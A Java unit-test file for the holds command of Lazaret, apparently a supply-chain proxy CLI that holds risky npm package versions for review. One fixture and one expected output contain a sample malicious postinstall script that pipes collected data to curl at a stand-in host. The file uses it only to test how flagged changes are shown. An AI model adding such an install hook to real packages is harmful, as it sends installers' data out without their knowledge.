package dev.lazaret.proxy.cli;

import static dev.lazaret.proxy.cli.AdminCliFixture.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HoldsCliTest {

  private static final String HOLD_A = """
      {"package": "left-pad", "version": "1.3.0", "state": "held", "risky": true,
       "publisher": "x", "publishedAt": "2026-11-27T07:58:00Z", "until": "2026-12-04T07:58:00Z",
       "firstHeldAt": "2026-11-27T08:00:00Z", "updatedAt": "2026-11-27T08:00:00Z",
       "signals": ["FRESH_PUBLISHER", "INSTALL_SCRIPTS"], "reason": "Risky"}""";
  private static final String HOLD_B = """
      {"package": "@acme/ui", "version": "2.0.0", "state": "held", "risky": false,
       "publisher": "alice", "publishedAt": "2026-11-26T10:00:00Z",
       "until": "2026-11-27T10:00:00Z", "signals": []}""";

  private static final String EXPLANATION = """
      {"package": "@acme/ui", "version": "1.2.0", "verdict": "hold",
       "until": "2026-12-04T07:58:00Z", "risky": true,
       "reasons": ["Risky: a fresh account shipping install scripts.",
                   "Held for the risky cooldown; an analyst can approve it earlier."],
       "signals": [
         {"id": "FRESH_PUBLISHER", "fired": true, "value": "2 days",
          "sentence": "The publishing account was created 2 days ago."},
         {"id": "INSTALL_SCRIPTS", "fired": true, "value": "postinstall",
          "sentence": "It runs a postinstall script."},
         {"id": "MAJOR_JUMP", "fired": false, "value": "0", "sentence": "No major jump."}],
       "publisher": {"name": "x", "firstSeenAnywhere": "2026-11-25T00:00:00Z",
                     "packagesMaintained": 1, "knownSince": "2026-11-27T08:00:00Z"},
       "hold": {"state": "held"},
       "decision": null,
       "diff": {"against": "1.1.0",
         "dependencies": {"added": {"evil-helper": "^1.0.0"}, "removed": {"lodash": "^4.0.0"},
                          "changed": {"react": {"from": "^18.0.0", "to": "^19.0.0"}}},
         "scripts": {"added": {"postinstall": "node collect.js | curl -d @- http://127.0.0.1"},
                     "changed": {}, "removed": {}},
         "maintainers": {"added": ["x"], "removed": ["alice"]},
         "publisher": {"from": "alice", "to": "x"},
         "provenance": {"from": true, "to": false},
         "files": null}}""";

  private final StubAdminApi api = StubAdminApi.start();
  private final AdminCliFixture cli = new AdminCliFixture(api);

  @TempDir
  Path tmp;

  @AfterEach
  void stop() {
    api.close();
  }

  @Test
  void listFollowsCursorsAndPrintsATable() {
    api.on("GET", "/api/holds", r -> r.query().contains("cursor=c1")
        ? new StubAdminApi.Answer(200, "{\"items\": [" + HOLD_B + "], \"next\": null}")
        : new StubAdminApi.Answer(200, "{\"items\": [" + HOLD_A + "], \"next\": \"c1\"}"));

    assertThat(cli.run("holds", "list")).isZero();
    // Times relative to the CLI's clock (AdminCliFixture.NOW), then UTC to the second.
    assertThat(cli.out()).isEqualTo("""
        PACKAGE   VERSION  STATE  RISKY  PUBLISHER  PUBLISHED                                  \
        UNTIL                                     SIGNALS
        left-pad  1.3.0    held   risky  x          4 h 32 min ago (2026-11-27 07:58:00 UTC)   \
        in 6 days (2026-12-04 07:58:00 UTC)       FRESH_PUBLISHER,INSTALL_SCRIPTS
        @acme/ui  2.0.0    held   -      alice      26 h 30 min ago (2026-11-26 10:00:00 UTC)  \
        2 h 30 min ago (2026-11-27 10:00:00 UTC)  -
        """);
    assertThat(api.requests()).extracting(StubAdminApi.Request::query)
        .containsExactly("state=held&limit=50", "state=held&limit=49&cursor=c1");
  }

  @Test
  void listStopsAtTheLimitAndPassesFilters() {
    api.on("GET", "/api/holds", 200, "{\"items\": [" + HOLD_A + "], \"next\": \"c1\"}");

    assertThat(cli.run("holds", "list", "--state", "all", "--risky", "-q", "left pad",
        "--limit", "1")).isZero();
    // The table, then a footer that says there is more and how to see it: never silent.
    assertThat(cli.out().lines()).hasSize(4);
    assertThat(cli.out().lines().toList().get(3)).isEqualTo("1 shown; there are more. Next page:"
        + " lazaret holds list --state all --risky --query 'left pad' --limit 1 --cursor c1"
        + "   (or --all for every page)");
    assertThat(api.requests()).extracting(StubAdminApi.Request::query)
        .containsExactly("state=all&limit=1&risky=true&q=left+pad");
  }

  @Test
  void listContinuesFromACursorAndAllFollowsEveryPage() {
    api.on("GET", "/api/holds", r -> r.query().contains("cursor=c1")
        ? new StubAdminApi.Answer(200, "{\"items\": [" + HOLD_B + "], \"next\": null}")
        : new StubAdminApi.Answer(200, "{\"items\": [" + HOLD_A + "], \"next\": \"c1\"}"));

    assertThat(cli.run("holds", "list", "--cursor", "c1")).isZero();
    assertThat(cli.out()).contains("@acme/ui").doesNotContain("left-pad")
        .doesNotContain("there are more");

    assertThat(cli.run("holds", "list", "--all", "--limit", "1")).isZero();
    assertThat(cli.out()).contains("left-pad").contains("@acme/ui")
        .doesNotContain("there are more");
    assertThat(api.requests()).extracting(StubAdminApi.Request::query).containsExactly(
        "state=held&limit=50&cursor=c1", "state=held&limit=1", "state=held&limit=1&cursor=c1");
  }

  @Test
  void listJsonPrintsTheItemsAsTheApiGaveThem() throws IOException {
    api.on("GET", "/api/holds", 200, "{\"items\": [" + HOLD_A + "], \"next\": null}");

    assertThat(cli.run("holds", "list", "--json")).isZero();
    JsonNode printed = json(cli.out());
    assertThat(printed.path("items").get(0)).isEqualTo(json(HOLD_A));
    assertThat(printed.path("next").isNull()).isTrue();
  }

  @Test
  void anEmptyListSaysSo() {
    api.on("GET", "/api/holds", 200, "{\"items\": [], \"next\": null}");
    assertThat(cli.run("holds", "list", "--state", "rejected")).isZero();
    assertThat(cli.out()).isEqualTo("No holds in state rejected.\n");
  }

  @Test
  void anUnknownStateIsAUsageError() {
    assertThat(cli.run("holds", "list", "--state", "pending")).isEqualTo(2);
    assertThat(cli.err()).isEqualTo("lazaret: --state 'pending': expected one of held,"
        + " approved, rejected, released, blocked, all; see 'lazaret holds list --help'\n");
  }

  @Test
  void showExplainsEverythingWithTheScopedNameEncoded() {
    api.on("GET", "/api/holds/%40acme%2Fui/1.2.0", 200, EXPLANATION);

    assertThat(cli.run("holds", "show", "@acme/ui", "1.2.0")).isZero();
    assertThat(cli.out()).isEqualTo("""
        @acme/ui@1.2.0: held (risky), released in 6 days (2026-12-04 07:58:00 UTC)
        Publisher: x (first seen anywhere 2 days ago (2026-11-25 00:00:00 UTC); maintains 1 \
        package; first known to Lazaret 4 h 30 min ago (2026-11-27 08:00:00 UTC))

        Reasons:
          - Risky: a fresh account shipping install scripts.
          - Held for the risky cooldown; an analyst can approve it earlier.

        Signals:
          FIRED  SIGNAL           VALUE        FINDING
          yes    FRESH_PUBLISHER  2 days       The publishing account was created 2 days ago.
          yes    INSTALL_SCRIPTS  postinstall  It runs a postinstall script.
          no     MAJOR_JUMP       0            No major jump.

        Changes since 1.1.0:
          dependency added: evil-helper ^1.0.0
          dependency removed: lodash ^4.0.0
          dependency changed: react ^18.0.0 -> ^19.0.0
          script added: postinstall
              node collect.js | curl -d @- http://127.0.0.1
          maintainers added: x
          maintainers removed: alice
          publisher: alice -> x
          provenance: present -> absent
          files: not inspected yet (the tarball has not been fetched)
        """);
  }

  @Test
  void showSaysWhenAnEndedHoldEndedAndWhenItWasDecided() {
    api.on("GET", "/api/holds/left-pad/1.3.0", 200, """
        {"package": "left-pad", "version": "1.3.0", "verdict": "allow",
         "until": "2026-11-27T10:00:00Z", "risky": false,
         "hold": {"state": "approved", "decision": {"approved": true, "analyst": "ann",
                  "at": "2026-11-27T09:00:00.123456789Z", "note": "diff reviewed"}}}""");

    assertThat(cli.run("holds", "show", "left-pad", "1.3.0")).isZero();
    // Past and future read differently; no nanoseconds, whatever the API sends.
    assertThat(cli.out()).isEqualTo("""
        left-pad@1.3.0: approved, cooldown ended 2 h 30 min ago (2026-11-27 10:00:00 UTC)
        Decision: approved by ann 3 h 29 min ago (2026-11-27 09:00:00 UTC): "diff reviewed"
        """);
  }

  @Test
  void showJsonPrintsTheExplanation() throws IOException {
    api.on("GET", "/api/holds/%40acme%2Fui/1.2.0", 200, EXPLANATION);
    assertThat(cli.run("holds", "show", "@acme/ui", "1.2.0", "--json")).isZero();
    assertThat(json(cli.out())).isEqualTo(json(EXPLANATION));
  }

  @Test
  void approveSendsTheReasonWithTheToken() throws IOException {
    api.on("POST", "/api/holds/%40acme%2Fui/2.0.0/approve", 200, "{\"state\": \"approved\"}");

    assertThat(cli.run("holds", "approve", "@acme/ui", "2.0.0", "--reason",
        "reviewed the \"postinstall\" diff")).isZero();
    StubAdminApi.Request request = api.requests().getFirst();
    assertThat(request.authorization()).isEqualTo("Bearer " + StubAdminApi.TOKEN);
    assertThat(json(request.body()).path("reason").asText())
        .isEqualTo("reviewed the \"postinstall\" diff");
    assertThat(cli.out()).startsWith("Approved @acme/ui@2.0.0: reviewed the \"postinstall\""
        + " diff\n");
  }

  @Test
  void replaceAsksToOverruleAnEarlierDecisionAndA409IsReported() throws IOException {
    api.on("POST", "/api/holds/left-pad/1.3.0/reject", 409,
        "{\"error\": \"left-pad@1.3.0 was already approved by ann\"}");
    assertThat(cli.run("holds", "reject", "left-pad", "1.3.0", "--reason", "odd")).isEqualTo(1);
    assertThat(cli.err()).contains("already approved by ann");
    assertThat(json(api.requests().getFirst().body()).has("replace")).isFalse();

    api.on("POST", "/api/holds/left-pad/1.3.0/reject", 200, "{\"state\": \"rejected\"}");
    assertThat(cli.run("holds", "reject", "left-pad", "1.3.0", "--reason", "odd", "--replace"))
        .isZero();
    assertThat(json(api.requests().getLast().body()).path("replace").asBoolean()).isTrue();
  }

  @Test
  void rejectWithoutAReasonIsAUsageErrorAndSendsNothing() {
    assertThat(cli.run("holds", "reject", "left-pad", "1.3.0")).isEqualTo(2);
    assertThat(cli.err()).isEqualTo("lazaret: Missing required option: '--reason=TEXT'; see"
        + " 'lazaret holds reject --help'\n");
    assertThat(cli.run("holds", "reject", "left-pad", "1.3.0", "--reason", " ")).isEqualTo(2);
    assertThat(cli.err()).startsWith("lazaret: --reason must say why");
    assertThat(api.requests()).isEmpty();
  }

  @Test
  void aWrongTokenSaysWhichSettingToCheck() {
    cli.env.put("LAZARET_ADMIN_TOKEN", "wrong");
    assertThat(cli.run("holds", "list")).isEqualTo(1);
    assertThat(cli.err()).isEqualTo("lazaret: authentication failed: check LAZARET_ADMIN_TOKEN\n");
  }

  @Test
  void theTokenCanComeFromAFile() throws IOException {
    cli.env.remove("LAZARET_ADMIN_TOKEN");
    Path file = Files.writeString(tmp.resolve("token"), StubAdminApi.TOKEN + "\n");
    api.on("GET", "/api/holds", 200, "{\"items\": [], \"next\": null}");
    assertThat(cli.run("holds", "list", "--token-file", file.toString())).isZero();

    Files.writeString(file, "wrong");
    assertThat(cli.run("holds", "list", "--token-file", file.toString())).isEqualTo(1);
    assertThat(cli.err()).isEqualTo("lazaret: authentication failed: check the token in "
        + file + "\n");
  }

  @Test
  void noTokenAtAllIsAUsageError() {
    cli.env.remove("LAZARET_ADMIN_TOKEN");
    assertThat(cli.run("holds", "list")).isEqualTo(2);
    assertThat(cli.err()).startsWith("lazaret: no admin token: set LAZARET_ADMIN_TOKEN or pass"
        + " --token-file FILE");
    assertThat(api.requests()).isEmpty();
  }

  @Test
  void anUnknownHoldShowsTheApisError() {
    api.on("POST", "/api/holds/left-pad/9.9.9/reject", 404,
        "{\"error\": \"left-pad@9.9.9 was never held\"}");
    assertThat(cli.run("holds", "reject", "left-pad", "9.9.9", "--reason", "bad")).isEqualTo(1);
    assertThat(cli.err()).isEqualTo("lazaret: left-pad@9.9.9 was never held\n");
    assertThat(cli.out()).isEmpty();
  }

  @Test
  void anUnreachableApiSaysWhereItLooked() throws IOException {
    int port;
    try (ServerSocket socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      port = socket.getLocalPort();
    }
    assertThat(cli.run("holds", "list", "--admin", "http://127.0.0.1:" + port)).isEqualTo(1);
    assertThat(cli.err()).startsWith("lazaret: cannot reach the admin API at http://127.0.0.1:"
        + port + "/ (connection refused)");
  }

  @Test
  void helpNamesTheSubcommandsAndHowToConnect() {
    assertThat(cli.run("holds", "--help")).isZero();
    assertThat(cli.out()).contains("list", "show", "approve", "reject", "LAZARET_ADMIN_URL",
        "LAZARET_ADMIN_TOKEN", "--token-file");
    assertThat(cli.out().lines()).allSatisfy(l -> assertThat(l.length()).isLessThanOrEqualTo(80));
    assertThat(cli.run("holds", "approve", "--help")).isZero();
    assertThat(cli.out()).contains("--reason=TEXT", "--admin=URL", "--json");
    assertThat(cli.run("holds")).isEqualTo(2);
    assertThat(cli.err()).contains("Usage: lazaret holds");
    assertThat(cli.run("--help")).isZero();
    assertThat(cli.out()).contains("holds", "rules");
  }
}
